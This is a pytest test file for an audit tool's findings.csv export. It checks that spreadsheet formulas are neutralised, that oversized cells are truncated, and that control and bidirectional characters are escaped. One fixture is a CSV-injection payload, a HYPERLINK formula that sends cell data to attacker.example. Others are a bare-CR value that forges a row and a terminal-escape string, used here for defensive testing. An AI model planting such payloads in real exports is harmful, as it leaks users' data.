"""findings.csv as a spreadsheet reads it: no formulas from cluster data, no cell beyond Excel's limit."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from auditor.engine import AuditResult
from auditor.model import Finding, Severity, Status
from auditor.render import csv_out, json_out
from tests.test_render_html_pdf import audit_scene, with_findings

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
LONG_MESSAGE = "sidecar still injected; " * 2_000  # 48,000 characters
EMOJI = "\U0001f6a2" * 20_000  # 20,000 characters, 40,000 UTF-16 units: what Excel counts
FORGED = "cart\rforged-row"  # a bare CR, unquoted, ends the record for csv readers: a forged row
TERMINAL = "\x1b[31mRED\x1b]0;title\x07\x00NUL\u202eexe.txt\u2066iso\u200fmark\u2028sep"
# Cells a spreadsheet runs as formulas (OWASP CSV injection), spelled out here rather than taken from csv_out.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def result(tmp_path_factory: pytest.TempPathFactory) -> AuditResult:
    base = audit_scene(tmp_path_factory.mktemp("scene"))
    extra = [
        Finding(Status.FAIL, "cluster-a", FORMULA, severity=Severity.MAJOR, gate="uninstall",
                check_id="istio-residue", kind="ConfigMap", namespace="ops", name="@SUM(1+1)",
                remediation="-2+3", title="Istio residue"),
        Finding(Status.WARN, "cluster-a", LONG_MESSAGE, severity=Severity.MINOR, gate="uninstall",
                check_id="istio-residue", kind="ConfigMap", namespace="ops", name="long-notes",
                title="Istio residue"),
        Finding(Status.WARN, "cluster-a", EMOJI, severity=Severity.MINOR, gate="uninstall",
                check_id="istio-residue", kind="ConfigMap", namespace="ops", name="emoji-notes",
                title="Istio residue"),
        Finding(Status.FAIL, "cluster-a", TERMINAL, severity=Severity.MAJOR, gate="uninstall",
                check_id="istio-residue", kind="ConfigMap", namespace="ops", name=FORGED,
                remediation="kubectl get a\nkubectl get b", title="Istio residue"),
    ]
    return with_findings(base, extra)


def read_rows(path: Path) -> list[dict[str, str]]:
    csv.field_size_limit(1 << 24)
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_cells_that_would_run_as_formulas_are_text(result: AuditResult, tmp_path: Path) -> None:
    rows = read_rows(csv_out.render(result, tmp_path))
    (row,) = [r for r in rows if r["name"].endswith("@SUM(1+1)")]
    assert row["message"] == "'" + FORMULA
    assert row["name"] == "'@SUM(1+1)" and row["remediation"] == "'-2+3"
    # Ordinary cells are untouched, and findings.json keeps the exact values.
    assert row["check_id"] == "istio-residue" and row["namespace"] == "ops"
    doc = json.loads(json_out.render(result, tmp_path).read_text(encoding="utf-8"))
    assert FORMULA in {f["message"] for f in doc["findings"]}
    assert not any(cell.startswith(FORMULA_STARTS) for r in rows for cell in r.values())


def test_cells_stop_at_excels_limit_and_say_where_the_rest_is(result: AuditResult, tmp_path: Path) -> None:
    rows = read_rows(csv_out.render(result, tmp_path))
    assert len(rows) == len(result.findings)  # one record per finding, nothing spilled into extra rows
    (row,) = [r for r in rows if r["name"] == "long-notes"]
    assert len(row["message"]) <= csv_out.CELL_LIMIT
    assert row["message"].startswith(LONG_MESSAGE[:1000])
    hidden = len(LONG_MESSAGE) - len(row["message"].split("\u2026 [")[0])
    assert row["message"].endswith(f"[{hidden:,} more characters in findings.json]")
    units = [len(cell.encode("utf-16-le")) // 2 for r in rows for cell in r.values()]
    assert max(units) <= csv_out.CELL_LIMIT  # Excel's count, not Python's
    (emoji,) = [r for r in rows if r["name"] == "emoji-notes"]
    assert emoji["message"].startswith(EMOJI[:16_000]) and "more characters in findings.json" in emoji["message"]


def test_plain_audits_are_written_as_they_are(tmp_path: Path) -> None:
    result = audit_scene(tmp_path / "scene")
    rows = read_rows(csv_out.render(result, tmp_path))
    frame = result.findings
    assert [r["message"] for r in rows] == frame["message"].tolist()
    assert [r["name"] for r in rows] == frame["name"].fillna("").tolist()


def test_control_and_bidi_characters_are_shown_as_escapes(result: AuditResult, tmp_path: Path) -> None:
    """`cat findings.csv` runs no terminal escape, a CR forges no row; findings.json keeps the exact text."""
    path = csv_out.render(result, tmp_path)
    raw = path.read_text(encoding="utf-8")
    for char in ("\r", "\x1b", "\x07", "\x00", "\u202e", "\u2066", "\u200f", "\u2028"):
        assert char not in raw, repr(char)
    rows = read_rows(path)
    assert len(rows) == len(result.findings)
    (row,) = [r for r in rows if r["remediation"] == "kubectl get a\nkubectl get b"]
    assert row["name"] == "cart\\x0dforged-row"
    assert row["message"] == "\\x1b[31mRED\\x1b]0;title\\x07\\x00NUL\\u202eexe.txt\\u2066iso\\u200fmark\\u2028sep"
    # newlines stay (inside a quoted field): the row above was found by its two-line remediation
    # Read line by line (as `grep` or a naive importer does), no line starts a record that is not one.
    starts = [line.split(",", 1)[0] for line in raw.split("\n") if line]
    assert "forged-row" not in starts
    doc = json.loads(json_out.render(result, tmp_path).read_text(encoding="utf-8"))
    assert {FORGED, TERMINAL} <= {f["name"] for f in doc["findings"]} | {f["message"] for f in doc["findings"]}


def test_evidence_with_a_number_as_a_key_and_a_number_beyond_64_bits_is_written(tmp_path: Path) -> None:
    """findings.json writes evidence with non-text keys (OPT_NON_STR_KEYS) and whole numbers beyond 64 bits (a YAML
    snapshot's, auditor/wire.py); findings.csv raised on both (orjson: "Dict key must be str", "Integer exceeds 64-bit
    range") and the audit ended in an internal error."""
    base = audit_scene(tmp_path / "scene")
    odd = Finding(Status.WARN, "cluster-a", "odd evidence", severity=Severity.MINOR, gate="uninstall",
                  check_id="istio-residue", kind="ConfigMap", namespace="ops", name="odd",
                  evidence={"ports": {15012: "grpc"}, "weight": 2**97}, title="Istio residue")
    rows = read_rows(csv_out.render(with_findings(base, [odd]), tmp_path))
    [row] = [r for r in rows if r["name"] == "odd"]
    assert json.loads(row["evidence"]) == {"ports": {"15012": "grpc"}, "weight": float(2**97)}
